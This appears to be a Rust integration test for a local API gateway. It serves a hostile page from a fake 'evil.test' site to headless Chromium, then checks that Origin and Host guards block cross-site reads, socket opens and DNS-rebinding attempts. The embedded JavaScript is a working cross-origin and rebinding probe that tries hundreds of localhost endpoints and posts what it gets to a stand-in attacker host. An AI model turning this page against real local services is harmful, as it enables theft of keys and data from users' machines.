//! A page on another site, in a real browser: it reads nothing and triggers nothing, whatever it tries.

use crate::world::{GOOD, World};
use gateway::{Guard, Guards};
use std::{path::Path, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
    process::Command,
    sync::mpsc,
    task::JoinSet,
    time::timeout,
};

const CHROMIUM: &str = "/usr/bin/chromium";

/// Tries every door of `BASES` with every `PATHS`, and tells `/report` what it got.
const PAGE: &str = r#"<!doctype html><meta charset="utf-8"><body><script>
const found = { read: 0, opened: 0, tried: 0, what: [] };
const note = (kind, n, of) => { found[kind] += n; if (n) found.what.push(of); };
const soon = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 8000))]).catch(() => {});
const read = async (url, init) => {
  found.tried += 1;
  const answer = await fetch(url, init);
  note("read", (await answer.text()).length, (init.method || "GET") + " " + url);
};
const element = (tag, set) => new Promise((done) => {
  found.tried += 1;
  const it = document.createElement(tag);
  it.onload = () => {
    let text = "";
    try { text = it.contentDocument ? it.contentDocument.body.innerText : ""; } catch {}
    note("read", text.length, tag);
    done();
  };
  it.onerror = () => done();
  set(it);
  document.body.append(it);
});
const attack = async (url) => {
  const post = (type, mode) => ({ method: "POST", mode, headers: { "content-type": type }, body: '{"model":"simulated/steady"}' });
  await Promise.all([
    read(url, {}),
    read(url, { headers: { "x-api-key": KEY } }),
    read(url, { mode: "no-cors" }),
    read(url, post("text/plain", "no-cors")),
    read(url, post("text/plain", "cors")),
    read(url, post("application/x-www-form-urlencoded", "no-cors")),
    read(url, post("application/json", "cors")),
    read(url, { method: "DELETE" }),
    element("img", (it) => { it.src = url; }),
    element("script", (it) => { it.src = url; }),
    element("iframe", (it) => { it.src = url; }),
    new Promise((done) => {
      const source = new EventSource(url);
      source.onopen = () => { note("opened", 1, "events " + url); done(); };
      source.onerror = () => { source.close(); done(); };
    }),
    new Promise((done) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = () => { note("opened", 1, "socket " + url); done(); };
      socket.onerror = () => done();
    }),
  ].map(soon));
};
(async () => {
  await new Promise((done) => setTimeout(done, WAIT));
  // Many at once: browsers let sockets to one machine wait for each other.
  const all = BASES.flatMap((base) => PATHS.map((path) => base + path));
  const some = async () => { for (let url; (url = all.pop()); ) await attack(url); };
  await Promise.all(Array.from({ length: 16 }, some));
  found.what = found.what.slice(0, 20);
  await fetch(REPORT, { method: "POST", mode: "no-cors", body: JSON.stringify(found) });
})();
</script>"#;

/// Somebody else's web server: gives the page to whoever asks, and passes on what is reported.
async fn site(listener: TcpListener, page: String, reports: mpsc::Sender<String>) {
    loop {
        let Ok((mut stream, _)) = listener.accept().await else { continue };
        let (page, reports) = (page.clone(), reports.clone());
        tokio::spawn(async move {
            let mut request = Vec::new();
            let body = loop {
                if stream.read_buf(&mut request).await.unwrap_or(0) == 0 {
                    return;
                }
                let text = String::from_utf8_lossy(&request).into_owned();
                let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
                let length = head.to_lowercase().lines().find_map(|line| {
                    line.strip_prefix("content-length: ").and_then(|length| length.parse().ok())
                });
                if body.len() >= length.unwrap_or(0_usize) {
                    break (head.starts_with("POST /report")).then(|| body.to_owned());
                }
            };
            let answer = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
                page.len()
            );
            let _ = stream.write_all(answer.as_bytes()).await;
            let _ = stream.shutdown().await;
            if let Some(body) = body {
                let _ = reports.send(body).await;
            }
        });
    }
}

fn page(bases: &[String], paths: &[String], report: &str, wait_ms: u32) -> String {
    let json = |value: &[String]| serde_json::to_string(value).unwrap();
    format!(
        "<script>const BASES = {}, PATHS = {}, REPORT = {report:?}, KEY = {GOOD:?}, WAIT = {wait_ms};</script>{PAGE}",
        json(bases),
        json(paths)
    )
}

/// Opens the page in a fresh browser and waits for what it reports.
async fn visit(url: &str, reports: &mut mpsc::Receiver<String>) -> serde_json::Value {
    let profile = testkit::Home::empty().unwrap();
    let mut browser = Command::new(CHROMIUM)
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        .args(["--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage"])
        .arg("--host-resolver-rules=MAP *.test 127.0.0.1")
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg("--remote-debugging-port=0")
        .arg(url)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let report = timeout(Duration::from_mins(2), reports.recv()).await.expect("a report").unwrap();
    browser.kill().await.unwrap();
    serde_json::from_str(&report).unwrap()
}

fn paths(world: &World) -> Vec<String> {
    let mut paths: Vec<String> = world
        .running
        .routes()
        .iter()
        // Of the native API, which has the same door, those that a page would like best.
        .filter(|(_, path, _)| {
            !path.starts_with("/api/")
                || ["/keys", "/runs", "/conversations", "/ws", "/events"]
                    .iter()
                    .any(|end| path.ends_with(end))
        })
        .map(|(_, path, _)| path.replace("{*id}", "a").replace("{*action}", "a:generateContent"))
        .collect();
    paths.dedup();
    paths
}

fn is_there() -> bool {
    let there = Path::new(CHROMIUM).exists();
    if !there {
        eprintln!("no {CHROMIUM} here: nothing is tried");
    }
    there
}

/// What a page on http://evil.test gets from this gateway under every name that it could try.
async fn from_another_site(world: &World, paths: &[String]) -> serde_json::Value {
    let (sender, mut reports) = mpsc::channel(1);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let evil = listener.local_addr().unwrap().port();
    let port = world.address.port();
    let bases: Vec<String> = ["127.0.0.1", "localhost", "rebound.test"]
        .iter()
        .map(|name| format!("http://{name}:{port}"))
        .collect();
    let page = page(&bases, paths, &format!("http://evil.test:{evil}/report"), 0);
    let serving = tokio::spawn(site(listener, page, sender));
    let found = visit(&format!("http://evil.test:{evil}/"), &mut reports).await;
    serving.abort();
    found
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_of_another_site_reads_nothing_and_triggers_nothing() {
    if !is_there() {
        return;
    }
    let world = World::new().await;
    let found = from_another_site(&world, &paths(&world)).await;
    assert!(found["tried"].as_u64().unwrap() > 300, "{found}");
    assert_eq!((&found["read"], &found["opened"]), (&0.into(), &0.into()), "{found}");
    assert!(world.shown.lock().unwrap().is_empty(), "a request of the page came as far as the key");

    let twin = World::with(|options| {
        options.guards = Guards::default().without(Guard::Origin).without(Guard::Host);
    })
    .await;
    let found = from_another_site(&twin, &["/info".to_owned(), "/v1/messages".to_owned()]).await;
    assert!(found["read"].as_u64().unwrap() > 0, "{found}");
    assert!(!twin.shown.lock().unwrap().is_empty());
}

/// A page whose name, once it is loaded, points to this machine: for the browser the gateway is its own server.
async fn rebound(guards: Guards) -> (serde_json::Value, usize) {
    let (sender, mut reports) = mpsc::channel(1);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let reporting = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let report = format!("http://report.test:{}/report", reporting.local_addr().unwrap().port());
    let own = format!("http://evil.test:{port}");
    let page = page(std::slice::from_ref(&own), &["/live".to_owned(), "/info".to_owned()], &report, 4000);
    let collecting = tokio::spawn(site(reporting, String::new(), sender.clone()));
    // The page is given once; then the gateway stands in that place.
    let swap = async {
        let answer = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
            page.len()
        );
        // Browsers open more connections than they use.
        let mut open = JoinSet::new();
        let given = loop {
            tokio::select! {
                accepted = listener.accept() => {
                    let (mut stream, answer) = (accepted.unwrap().0, answer.clone());
                    open.spawn(async move {
                        let asked = stream.read(&mut [0; 4096]).await.unwrap_or(0) > 0;
                        let _ = stream.write_all(answer.as_bytes()).await;
                        let _ = stream.shutdown().await;
                        asked
                    });
                }
                Some(given) = open.join_next() => if given.unwrap() { break true },
            }
        };
        assert!(given);
        open.shutdown().await;
        drop(listener);
        World::with(|options| {
            options.port = port;
            options.host = "127.0.0.1".parse().unwrap();
            options.guards = guards;
        })
        .await
    };
    let url = format!("{own}/");
    let (world, found) = tokio::join!(swap, visit(&url, &mut reports));
    collecting.abort();
    let came = world.shown.lock().unwrap().len();
    (found, came)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_page_whose_name_was_pointed_here_gets_nothing_but_a_no() {
    if !is_there() {
        return;
    }
    let (found, came) = rebound(Guards::default()).await;
    assert_eq!((came, &found["opened"]), (0, &0.into()), "{found}");
    let (found, came) = rebound(Guards::default().without(Guard::Host).without(Guard::Origin)).await;
    assert!(came > 0, "{found}");
}
